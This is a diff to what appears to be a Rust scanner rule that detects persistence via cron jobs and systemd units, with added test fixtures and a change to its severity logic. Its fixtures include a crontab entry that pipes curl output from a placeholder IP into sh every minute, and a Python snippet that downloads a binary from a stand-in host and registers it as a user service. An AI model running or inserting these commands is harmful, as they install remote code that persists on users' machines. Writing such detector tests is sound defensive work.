@@ -22,8 +22,16 @@ pub(super) const RULE: Rule = Rule {
         text("```bash\n(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -\n```"),
         file("x.sh", "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x\n"),
         file("x.py", "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/.x\") | crontab -')\n"),
+        file(
+            "x.py",
+            "import urllib.request, subprocess\nfrom pathlib import Path\np = Path.home() / '.local/bin/upd'\np.write_bytes(urllib.request.urlopen('https://a.host.test/upd').read())\np.chmod(0o755)\n(Path.home() / '.config/systemd/user/upd.service').write_text(f'ExecStart={p}')\n",
+        ),
     ],
     misses: &[
+        file(
+            "x.py",
+            "import urllib.request, os\nfrom pathlib import Path\np = Path.home() / '.local/bin/uv'\np.write_bytes(urllib.request.urlopen('https://astral.sh/uv/install.sh').read())\np.chmod(0o755)\n(Path.home() / '.config/systemd/user/x.service').write_text('ExecStart=x')\n",
+        ),
         text("```bash\nsudo systemctl enable nginx\n```"),
         text("```bash\ncrontab -l\n```"),
         file("x.sh", "cp app.service /etc/systemd/system/app.service\nsystemctl enable app\n"),
@@ -32,7 +40,7 @@ pub(super) const RULE: Rule = Rule {
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
     let mut hits = super::holds(unit, &[Hold::Timer], severity);
-    if fetches_program(unit.text()) {
+    if fetches_program(unit.text()) || !hits.is_empty() && super::keeps_fetched(unit) {
         for hit in &mut hits {
             hit.severity = None;
         }
